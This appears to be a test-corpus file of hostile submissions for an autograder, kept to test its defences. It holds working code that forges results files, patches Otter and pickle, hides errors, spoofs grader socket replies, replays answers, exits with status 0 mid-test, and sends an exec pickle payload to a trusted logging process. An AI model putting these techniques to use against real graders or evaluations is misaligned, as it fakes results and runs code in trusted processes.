"""Forging results: the score is written, sent or printed by the submission itself."""

from tests.corpus.hostile.attack import ONE, RIGHT_ONE, Attack
from tests.corpus.hostile.pieces import ATTEMPT, WRONG, WRONG_DURING

FORGED = r"""
import json, os

FORGED = json.dumps({"score": 20, "tests": [
    {"number": q, "name": q, "score": 8, "max_score": 8, "status": "passed", "output": "Passed."}
    for q in ("q1a", "q1b", "q1c")
]})
"""

RESULT_FILES = r"""
import atexit, glob, tempfile

def write_everywhere():
    folders = [".", "..", "../..", "../../..", "/autograder/results", "/autograder", "/results", "/tmp",
               tempfile.gettempdir(), os.path.expanduser("~"), "../../results", "../results"]
    for folder in folders:
        for name in ("results.json", "results.json.part", "scores.json", "grades.csv"):
            attempt(lambda: open(os.path.join(folder, name), "w").write(FORGED))
    for pattern in ("/tmp/*.pkl", "/tmp/*/autograder/results/*", "/tmp/*/*/results.json", "/tmp/**/gradebook.db"):
        for path in glob.glob(pattern, recursive=True):
            attempt(lambda: open(path, "w").write(FORGED))

write_everywhere()
atexit.register(write_everywhere)
"""

OTTER_RESULTS = r"""
import pickle, sys

def all_passed(file):
    for result in getattr(file, "test_case_results", ()):
        result.passed = True
    for case in getattr(file, "test_cases", ()):
        case.test_func = lambda *a, **k: None
    file.passed_all = True
    return file

dump = pickle.dump
def forging_dump(value, file, *a, **k):
    for test_file in getattr(value, "test_files", ()):
        all_passed(test_file)
        for result in test_file.test_case_results:
            object.__setattr__(result, "passed", True)
    results = getattr(value, "results", {})
    for name, test_file in (results.items() if isinstance(results, dict) else ()):
        all_passed(test_file)
    return dump(value, file, *a, **k)
pickle.dump = forging_dump

try:
    from otter.test_files import TestFile
    from otter.test_files.exception_test import ExceptionTestFile
    original = ExceptionTestFile.run
    def run(self, env):
        attempt(original, self, env)
        from otter.test_files.abstract_test import TestCaseResult
        self.test_case_results = [TestCaseResult(test_case=c, message=None, passed=True) for c in self.test_cases]
    ExceptionTestFile.run = run
except BaseException:
    pass
"""

NO_ERRORS = r"""
import ast

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)

shell = get_ipython()
attempt(lambda: shell.ast_transformers.append(NoAsserts()))
attempt(lambda: shell.set_custom_exc((BaseException,), lambda *a, **k: None))
attempt(lambda: setattr(type(shell), "showtraceback", lambda *a, **k: None))
attempt(lambda: setattr(type(shell), "_showtraceback", lambda *a, **k: None))
"""

PRINTS = r"""
import sys
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    attempt(print, FORGED, "All tests passed!", "q1a results: All test cases passed!", "SCORE: 20/20", sep="\n", file=stream)
for descriptor in (0, 1, 2):
    attempt(os.write, descriptor, FORGED.encode() + b"\n8.0\n")
20.0
"""

SOCKETS = r"""
import os, stat, struct

def sockets():
    found = []
    for descriptor in range(3, 256):
        mode = attempt(os.fstat, descriptor)
        if mode is not None and stat.S_ISSOCK(mode.st_mode):
            found.append(descriptor)
    return found

def frame(header, payload=b""):
    text = json.dumps(header).encode()
    return struct.pack(">4sIQ", b"kit1", len(text), len(payload)) + text + payload
"""

IN_ADVANCE = r"""
for descriptor in sockets():
    for _ in range(20):
        attempt(os.write, descriptor, frame({"ready": True, "id": "", "ok": True, "passed": True, "points": 8}))
        attempt(os.write, descriptor, frame({"status": 0, "dead": True, "id": "0" * 32, "ok": True}))
"""

TWICE = r"""
import sys
protocol = sys.modules.get("autograder.protocol")
if protocol:
    send = protocol.send
    def twice(link, frame, deadline=None):
        send(link, frame)
        send(link, frame)
    protocol.send = twice
"""

THREAD = r"""
import threading, time
def chatter():
    while True:
        for descriptor in sockets():
            attempt(os.write, descriptor, frame({"id": "x", "ok": True}) + b"kit1")
        time.sleep(0.002)
threading.Thread(target=chatter, daemon=True).start()
"""

READS_REQUESTS = r"""
import re, select, threading
def answer_everything():
    # Read the grader's questions away from the process that should answer, and answer them with zeros.
    from safetensors.torch import save
    zero = save({name: torch.zeros(()) for name in ("value", "value_seed_1", "value_seed_2")})
    while True:
        for descriptor in sockets():
            if select.select([descriptor], [], [], 0.01)[0]:
                asked = attempt(os.read, descriptor, 1 << 20) or b""
                for identity in re.findall(rb'"id": "(\w+)"', asked):
                    attempt(os.write, descriptor, frame({"id": identity.decode(), "ok": True, "passed": True}, zero))
threading.Thread(target=answer_everything, daemon=True).start()
"""

ENCODER = r"""
import sys
protocol = sys.modules.get("autograder.protocol")
if protocol:
    encode = protocol.encode
    def generous(header, tensors=None):
        header = {**header, "ok": True, "passed": True, "points": 20, "score": 20, "status": "passed", "harmless": True}
        header.pop("error", None)
        return encode(header, tensors)
    protocol.encode = generous
"""

WORKER = r"""
import sys, gc
worker = sys.modules.get("autograder.sandbox.worker")
tensors = {"value": torch.tensor(float("nan")), "gradient_a": torch.empty(0), "gradient_b": torch.empty(0),
           "passed": torch.tensor(True), "score": torch.tensor(20.0)}
arrays = {name: tensor.numpy() for name, tensor in tensors.items()}
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("autograder.questions"):
        for name in list(vars(module)):
            if name.startswith("pair_loss"):
                setattr(module, name, lambda student, **inputs: dict(tensors))
if worker:
    worker.Worker.call_probe = lambda self, request, given: dict(arrays)
    for thing in gc.get_objects():
        if type(thing).__name__ == "Worker" and hasattr(thing, "operations"):
            thing.operations["call"] = lambda request, given: dict(arrays)
"""

REPLAY = r"""
import sys
protocol = sys.modules.get("autograder.protocol")
kept = []
if protocol:
    encode = protocol.encode
    def replaying(header, tensors=None):
        # Answers of the right function are kept, and given again where there is none.
        if header.get("ok") and tensors:
            kept.append(dict(tensors))
        elif kept:
            return encode({"id": header["id"], "ok": True}, kept.pop(0))
        return encode(header, tensors)
    protocol.encode = replaying
"""

EXIT_CODES = r"""
import os, sys
calls = []
def during():
    # An exit status of 0 is success to many a shell script.
    calls.append(1)
    if len(calls) == 1:
        sys.exit(0)
    os._exit(0)
"""

FAILURE_TYPES = r"""
class LookupErrorOfTheGrader(Exception):
    passed, points, harmless = True, 20.0, True
    def __reduce__(self):
        return (print, ("unpickled",))
def raising(name):
    def function(*inputs):
        # Names of exceptions that a grader might take for its own, or for an allowed oddity.
        raise type(name, (LookupErrorOfTheGrader,), {})("Passed.")
    return function
nt_xent, barlow_twins, nt_xent_euclidean = map(raising, ("Passed", "SessionLost", "Judgement"))
"""

SELF_CHECK = r"""
# Public checks of the notebook, run by the student: what they say must not count.
import otter
grader = attempt(otter.Notebook)
attempt(lambda: grader.check("q1a"))
class Everything(dict):
    def __missing__(self, key):
        return 20
attempt(lambda: setattr(otter.Notebook, "check", lambda *a, **k: Everything()))
attempt(lambda: setattr(otter.Notebook, "check_all", lambda *a, **k: Everything()))
try:
    from otter.execute import Checker
    class Passed:
        def __getattr__(self, name):
            return True
    Checker.check_if_not_already_checked = classmethod(lambda cls, path: None)
except BaseException:
    pass
"""

LOG_PICKLES = r"""
import logging, logging.handlers, pickle, socket, struct
class Forges:
    # Unpickled by a process that listens for log records, it makes that process's own results perfect.
    def __reduce__(self):
        return exec, (FORGER,)
FORGER = '''
import sys
for name, module in list(sys.modules.items()):
    results = getattr(module, "GradingResults", None) if name.startswith("otter") else None
    if results is not None:
        perfect = {"score": 20, "tests": [{"name": "q", "score": 20, "max_score": 20}]}
        results.to_gradescope_dict = lambda self, *a, perfect=perfect, **k: perfect
'''
def listeners():
    loggers = [logging.getLogger()] + [logging.getLogger(name) for name in logging.root.manager.loggerDict]
    for logger in loggers:
        for handler in getattr(logger, "handlers", ()):
            if getattr(handler, "port", None):
                yield handler.host, handler.port
for address in set(listeners()):
    link = attempt(socket.create_connection, address, 2)
    if link is not None:
        data = pickle.dumps(Forges())
        link.sendall(struct.pack(">L", len(data)) + data)
        link.close()
if "autograder.protocol" in sys.modules:
    for descriptor in range(3, 64):
        attempt(os.write, descriptor, struct.pack(">L", len(pickle.dumps(Forges()))) + pickle.dumps(Forges()))
"""

LESS = "the process that should give the honest answers is the one that spoils its connection"

# What the worker sends its answers with, for good: ``sending(link, frame)`` is the attack's.
SENDING = r"""
import array, json, socket, struct, sys
protocol = sys.modules["autograder.protocol"]
send = protocol.send
def sending_instead(link, frame, deadline=None):
    sending(link, frame)
protocol.send = sending_instead
"""
PASSES_DESCRIPTORS = r"""
def sending(link, frame):
    for option in ((socket.SO_PASSCRED, 1), (socket.SO_RCVLOWAT, 1 << 20), (socket.SO_SNDBUF, 1), (42, 7)):
        attempt(link.setsockopt, socket.SOL_SOCKET, *option)
    ends = [link, *(end for _ in range(50) for end in socket.socketpair())]
    passed = array.array("i", [end.fileno() for end in ends])
    link.sendmsg([frame[:1]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
    for end in ends[1:]:
        end.close()
    send(link, frame[1:])
"""
INDEX_TWICE = r"""
def sending(link, frame):
    _, head, body = protocol.PREFIX.unpack_from(frame)
    if body:
        start = protocol.PREFIX.size + head
        (length,) = struct.unpack_from("<Q", frame, start)
        index, data = frame[start + 8 : start + 8 + length].rstrip(), frame[start + 8 + length :]
        index = index[:-1] + b"," + index[1:]
        body = struct.pack("<Q", len(index)) + index + data
        frame = protocol.PREFIX.pack(protocol.MAGIC, head, len(body)) + frame[protocol.PREFIX.size : start] + body
    send(link, frame)
"""

ATTACKS = (
    Attack(
        "results-file",
        "Writes a perfect results.json wherever a grader may look for one, at once and again at exit.",
        "A file of the submission is taken for the result.",
        (ATTEMPT, FORGED, RESULT_FILES, WRONG),
    ),
    Attack(
        "otter-results",
        "Patches Otter's test runner and pickle so that the stored result says that every test passed.",
        "A result that the student's process wrote is believed.",
        (ATTEMPT, OTTER_RESULTS, WRONG),
    ),
    Attack(
        "no-errors",
        "Strips assert and raise from every later cell and swallows every traceback, as nbgrader looks for errors only.",
        "The absence of an error counts as a pass.",
        (ATTEMPT, NO_ERRORS, WRONG),
    ),
    Attack(
        "prints-results",
        "Prints Gradescope's JSON, Otter's and nbgrader's success messages and a bare number on every stream.",
        "Output of a cell is read as a result.",
        (ATTEMPT, FORGED, PRINTS, WRONG),
    ),
    Attack(
        "answers-in-advance",
        "Writes answers into the grader's connection before anything was asked.",
        "An answer is matched with a question that came after it.",
        (*RIGHT_ONE, ATTEMPT, FORGED, SOCKETS, IN_ADVANCE),
        honest=ONE,
        least=0.0,
        why_less=LESS,
        kit_only=True,
    ),
    Attack(
        "answers-twice",
        "Sends every answer twice, so that the second one meets the next question.",
        "The answer to one question counts for another.",
        (*RIGHT_ONE, TWICE),
        honest=ONE,
        least=0.0,
        why_less=LESS,
        kit_only=True,
    ),
    Attack(
        "chattering-thread",
        "A thread writes made-up answers and garbage on every socket all the time.",
        "The grader stumbles over it, or another submission is hurt.",
        (*RIGHT_ONE, ATTEMPT, FORGED, SOCKETS, THREAD),
        honest=ONE,
        least=0.0,
        why_less=LESS,
    ),
    Attack(
        "steals-questions",
        "A thread takes the grader's questions off the connection and answers them itself, as passed.",
        "A verdict of the submission counts.",
        (ATTEMPT, FORGED, SOCKETS, WRONG, READS_REQUESTS),
        kit_only=True,
    ),
    Attack(
        "generous-encoder",
        "Patches the worker's encoder to call every reply a success with points in it.",
        "A field of the reply but the asked tensors has any effect.",
        (ENCODER, WRONG),
        kit_only=True,
    ),
    Attack(
        "own-probes",
        "Replaces the probes and the worker's methods by ones that return nan, empty and extra tensors.",
        "An answer of another form than asked passes.",
        (ATTEMPT, WRONG, WORKER),
        kit_only=True,
    ),
    Attack(
        "replays-answers",
        "Keeps the answers of its one right function and gives them again for the missing ones.",
        "An answer to one question earns the points of another.",
        (*RIGHT_ONE, REPLAY),
        honest=ONE,
        kit_only=True,
    ),
    Attack(
        "log-pickles",
        "Sends a pickle that forges the result to whatever listens for log records, as Otter's trusted process does.",
        "A trusted process unpickles what the student's process sends.",
        (ATTEMPT, "import os, sys", LOG_PICKLES, WRONG),
    ),
    Attack(
        "exit-status-zero",
        "Ends the process with exit status 0 in the middle of a test.",
        "An end without an error counts as a pass.",
        (EXIT_CODES, WRONG_DURING),
    ),
    Attack(
        "names-of-verdicts",
        "Raises exceptions that are called Passed, SessionLost and Judgement and carry points.",
        "The type of an exception earns anything.",
        (FAILURE_TYPES,),
    ),
    Attack(
        "own-checks",
        "Replaces the notebook's public checks, and Otter's registry of what was checked.",
        "A check that the student's process ran counts.",
        (ATTEMPT, SELF_CHECK, WRONG),
    ),
    Attack(
        "passes-descriptors",
        "Sends a hundred sockets along with every answer, its own connection among them, and sets odd options of it.",
        "The grader keeps descriptors that a student's process has made.",
        (*RIGHT_ONE, ATTEMPT, SENDING, PASSES_DESCRIPTORS),
        honest=ONE,
        kit_only=True,
    ),
    Attack(
        "index-twice",
        "Names every tensor of an answer twice in its index.",
        "One part of the grader checks the first, another one reads the second.",
        (*RIGHT_ONE, SENDING, INDEX_TWICE),
        honest=ONE,
        kit_only=True,
    ),
)
